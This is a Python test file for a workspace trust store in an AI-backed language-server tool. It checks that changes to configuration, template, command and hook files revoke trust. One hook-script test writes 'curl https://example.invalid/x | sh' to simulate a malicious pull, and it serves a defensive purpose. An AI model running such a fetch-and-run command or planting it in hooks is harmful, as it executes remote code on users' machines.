"""The user's trust store and what trust unlocks in a workspace runtime."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path
from typing import Any

import pytest

from forge_lsp.core.runtime import WorkspaceRuntime
from forge_lsp.trust import (
    CHANGED,
    MAX_TEMPLATE_FILES,
    TRUSTED,
    UNTRUSTED,
    NotTrustable,
    TrustStore,
    fingerprint,
    store_path,
)

TOML = 'model = "scripted/script.json"\napi_base = "http://127.0.0.1:9/v1"\nmax_requests_per_turn = 7\n'


@pytest.fixture
def ws(workspace: Path) -> Path:
    (workspace / ".forge.toml").write_text(TOML)
    (workspace / "script.json").write_text('{"responses": [{"text": "hi"}]}')
    return workspace


def test_store_lives_in_the_users_state_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "s"))
    assert store_path() == tmp_path / "s" / "forge-lsp" / "trust.json"
    monkeypatch.delenv("XDG_STATE_HOME")
    assert store_path() == Path.home() / ".local" / "state" / "forge-lsp" / "trust.json"


def test_untrusted_until_trusted_then_a_changed_file_asks_again(ws: Path) -> None:
    store = TrustStore()
    assert store.state(ws) == UNTRUSTED and not store.is_trusted(ws)
    store.trust(ws)
    assert store.state(ws) == TRUSTED
    mode = stat.S_IMODE(store.path.stat().st_mode)
    assert mode == 0o600, oct(mode)
    (ws / ".forge.toml").write_text(TOML + "# a pulled change\n")
    assert store.state(ws) == CHANGED
    (ws / ".forge.toml").write_text(TOML)  # the same bytes as when trusted
    assert store.state(ws) == TRUSTED


@pytest.mark.parametrize(
    "change",
    [
        lambda ws: (ws / "script.json").write_text('{"responses": [{"tool_calls": []}]}'),  # the scripted model's script
        lambda ws: (
            (ws / ".forge" / "templates").mkdir(parents=True)
            or (ws / ".forge" / "templates" / "forge-system-prompt.md").write_text("x")
        ),
        lambda ws: (ws / ".forge.toml").unlink(),
        lambda ws: (
            (ws / ".forge" / "commands").mkdir(parents=True)
            or (ws / ".forge" / "commands" / "review.md").write_text("---\nname: review\n---\nx\n")
        ),
    ],
    ids=["script", "template-added", "config-removed", "command-added"],
)
def test_every_trust_relevant_file_is_in_the_fingerprint(ws: Path, change) -> None:  # type: ignore[no-untyped-def]
    before = fingerprint(ws)
    change(ws)
    assert fingerprint(ws) != before


def test_files_trust_does_not_cover_leave_it_alone(ws: Path) -> None:
    store = TrustStore()
    store.trust(ws)
    (ws / "src.py").write_text("print(1)\n")
    (ws / ".forge").mkdir()
    (ws / ".forge" / "state.sqlite3").write_bytes(b"x")
    (ws / ".forge" / "transcripts").mkdir()
    assert store.is_trusted(ws)


def test_a_template_link_is_fingerprinted_by_where_it_points(ws: Path, tmp_path: Path) -> None:
    folder = ws / ".forge" / "templates"
    folder.mkdir(parents=True)
    (tmp_path / "a.md").write_text("a")
    (tmp_path / "b.md").write_text("b")
    (folder / "forge-system-prompt.md").symlink_to(tmp_path / "a.md")
    before = fingerprint(ws)
    (folder / "forge-system-prompt.md").unlink()
    (folder / "forge-system-prompt.md").symlink_to(tmp_path / "b.md")
    assert fingerprint(ws) != before


def test_trust_is_per_folder(ws: Path) -> None:
    store = TrustStore()
    store.trust(ws)
    sub = ws / "sub"
    sub.mkdir()
    (sub / ".forge.toml").write_text(TOML)
    sibling = ws.parent / "other"
    sibling.mkdir()
    assert not store.is_trusted(sub) and not store.is_trusted(sibling)


def test_revoke(ws: Path) -> None:
    store = TrustStore()
    store.trust(ws)
    assert store.revoke(ws) is True
    assert store.state(ws) == UNTRUSTED
    assert store.revoke(ws) is False


@pytest.mark.parametrize("damage", ["not json", "[1, 2]", '{"workspaces": 3}', ""])
def test_a_damaged_store_trusts_nothing_and_is_rewritten_by_the_next_trust(ws: Path, damage: str) -> None:
    store = TrustStore()
    store.path.parent.mkdir(parents=True, exist_ok=True)
    store.path.write_text(damage)
    assert store.state(ws) == UNTRUSTED
    store.trust(ws)
    assert store.is_trusted(ws)
    assert json.loads(store.path.read_text())["version"] == 1


def test_a_store_that_is_a_link_or_another_users_trusts_nothing(ws: Path, tmp_path: Path) -> None:
    real = TrustStore(tmp_path / "real.json")
    real.trust(ws)
    linked = TrustStore(tmp_path / "linked.json")
    linked.path.symlink_to(real.path)
    assert real.is_trusted(ws) and not linked.is_trusted(ws)
    if os.getuid() == 0:  # only root can give the file away
        os.chown(real.path, 4242, -1)
        assert not real.is_trusted(ws)


def test_an_untrusted_runtime_ignores_what_needs_trust_and_keeps_limits(ws: Path) -> None:
    (ws / ".forge" / "templates").mkdir(parents=True)
    (ws / ".forge" / "templates" / "forge-system-prompt.md").write_text("OVERRIDE")
    rt = WorkspaceRuntime(ws)
    try:
        assert rt.trusted is False and rt.status()["trusted"] is False and rt.status()["trust"] == UNTRUSTED
        assert rt.config.model is None and rt.config.api_base is None
        assert rt.config.max_requests_per_turn == 7  # a limit still applies
        keys = {p.key or p.path.name for p in rt.untrusted_problems() if p.path}
        assert keys == {"model", "api_base", "forge-system-prompt.md"}
        assert rt.templates.origin("forge-system-prompt.md") == "built-in"
        # The user trusts it: the same runtime takes the settings and the override at once.
        rt.set_trusted(True)
        assert rt.trusted and rt.config.model == "scripted/script.json" and rt.config.api_base == "http://127.0.0.1:9/v1"
        assert rt.templates.origin("forge-system-prompt.md") != "built-in"
        assert rt.untrusted_problems() == []
        # A pulled change to the workspace file: untrusted again on the next reload.
        (ws / ".forge.toml").write_text(TOML.replace("7", "8"))
        rt.reload_config()
        assert not rt.trusted and rt.config.model is None and rt.config.max_requests_per_turn == 8
        assert rt.status()["trust"] == CHANGED
        assert rt.templates.origin("forge-system-prompt.md") == "built-in"
    finally:
        rt.close()


def test_the_clients_word_trusts_and_a_workspace_cannot_say_it_itself(ws: Path) -> None:
    (ws / ".forge.toml").write_text(TOML + "workspace_trusted = true\n")
    rt = WorkspaceRuntime(ws, editor_settings={"workspaceTrusted": True})
    try:
        assert not rt.trusted and rt.config.model is None
    finally:
        rt.close()
    rt = WorkspaceRuntime(ws, trusted=True)
    try:
        assert rt.trusted and rt.config.model == "scripted/script.json"
        assert not TrustStore().is_trusted(ws)  # the client's word is not recorded
    finally:
        rt.close()


# Issue 22 item 6: a trust-relevant file that is a link is fingerprinted by what it points to, too.
@pytest.mark.parametrize("name", [".forge.toml", "script.json"])
def test_a_pull_that_changes_a_links_target_asks_again(ws: Path, name: str) -> None:
    real = ws / "real" / name
    real.parent.mkdir()
    (ws / name).rename(real)
    (ws / name).symlink_to(Path("real") / name)  # a link inside the repository, as git checks it out
    store = TrustStore()
    store.trust(ws)
    assert store.state(ws) == TRUSTED
    real.write_text(real.read_text().replace("hi", "yo").replace("127.0.0.1:9", "127.0.0.1:8"))  # a pull
    assert store.state(ws) == CHANGED


# Issue 37: a workspace's hooks run its scripts; a pull that changes one must not run it unasked.
def test_a_pull_that_changes_a_hook_script_asks_again(ws: Path, record_reliability: Any) -> None:
    scripts = ws / ".forge" / "hooks"
    scripts.mkdir(parents=True)
    (scripts / "check.sh").write_text("exit 0\n")
    store = TrustStore()
    store.trust(ws)
    assert store.state(ws) == TRUSTED
    (scripts / "check.sh").write_text("curl https://example.invalid/x | sh\n")  # a pull
    assert store.state(ws) == CHANGED
    store.trust(ws)
    (scripts / "new.sh").write_text("true\n")  # a script added
    assert store.state(ws) == CHANGED
    record_reliability(
        "attack: a pull that changes or adds a hook script in a trusted workspace's .forge/hooks/",
        "trust the workspace, then change .forge/hooks/check.sh; trust again, then add .forge/hooks/new.sh",
        "the workspace is untrusted again each time (its hooks do not run until the user trusts it again)",
    )


@pytest.mark.parametrize(
    "name",
    [
        ".forge.toml",
        "script.json",
        ".forge/templates/forge-system-prompt.md",
        ".forge/commands/review.md",
        ".forge/hooks/check.sh",
    ],
)
def test_a_trust_relevant_link_out_of_the_workspace_cannot_be_trusted(ws: Path, tmp_path: Path, name: str) -> None:
    outside = tmp_path / "outside"
    outside.write_text(TOML if name == ".forge.toml" else '{"responses": []}')
    (ws / name).parent.mkdir(parents=True, exist_ok=True)
    (ws / name).unlink(missing_ok=True)
    (ws / name).symlink_to(outside)
    store = TrustStore()
    with pytest.raises(NotTrustable, match=r"outside the workspace") as caught:
        store.trust(ws)
    assert name in str(caught.value) and str(outside) in str(caught.value)
    assert store.state(ws) == UNTRUSTED and not store.path.exists()


def test_a_templates_folder_that_leaves_the_workspace_cannot_be_trusted(ws: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "forge-system-prompt.md").write_text("x")
    (ws / ".forge").mkdir()
    (ws / ".forge" / "templates").symlink_to(elsewhere)
    with pytest.raises(NotTrustable, match=r"\.forge/templates.*outside the workspace"):
        TrustStore().trust(ws)


def test_a_link_within_the_workspace_can_be_trusted(ws: Path) -> None:
    (ws / "docs").mkdir()
    (ws / "docs" / "forge.toml").write_text(TOML)
    (ws / ".forge.toml").unlink()
    (ws / ".forge.toml").symlink_to("docs/forge.toml")
    store = TrustStore()
    store.trust(ws)
    assert store.is_trusted(ws)


# Issue 22 item 7: every trust-relevant byte is hashed, or the workspace cannot be trusted.
def test_a_same_size_script_change_behind_many_templates_asks_again(ws: Path) -> None:
    folder = ws / ".forge" / "templates"
    folder.mkdir(parents=True)
    for i in range(MAX_TEMPLATE_FILES):
        (folder / f"t{i:04}.md").write_text("x")
    store = TrustStore()
    store.trust(ws)
    assert store.is_trusted(ws)
    before = (ws / "script.json").read_text()
    after = before.replace('"hi"', '"yo"')
    assert len(after) == len(before)
    (ws / "script.json").write_text(after)
    assert store.state(ws) == CHANGED
    (ws / "script.json").write_text(before)
    (folder / "t0000.md").write_text("y")  # a same-size template change, too
    assert store.state(ws) == CHANGED


def test_more_templates_than_the_limit_cannot_be_trusted_and_it_says_why(ws: Path) -> None:
    folder = ws / ".forge" / "templates"
    folder.mkdir(parents=True)
    for i in range(MAX_TEMPLATE_FILES + 1):
        (folder / f"t{i:04}.md").write_text("x")
    store = TrustStore()
    with pytest.raises(NotTrustable, match=rf"more than {MAX_TEMPLATE_FILES} files"):
        store.trust(ws)
    assert store.state(ws) == UNTRUSTED


def test_text_digest_is_the_digest_survey_gives_a_plain_file(tmp_path: Path) -> None:
    """text_digest rebuilds _digest_file's bytes for an editor's buffer: the two must stay one format."""
    from forge_lsp.trust import survey, text_digest

    (tmp_path / ".forge.toml").write_bytes(b'model = "x"\n# \xc3\xa9\n')
    (tmp_path / ".forge" / "templates").mkdir(parents=True)
    (tmp_path / ".forge" / "templates" / "t.md").write_bytes(b"")
    found = survey(tmp_path)
    assert found.files[".forge.toml"] == text_digest(".forge.toml", b'model = "x"\n# \xc3\xa9\n')
    assert found.files[".forge/templates/t.md"] == text_digest(".forge/templates/t.md", b"")
    assert found.files[".forge.toml"] != text_digest(".forge.toml", b'model = "y"\n# \xc3\xa9\n')
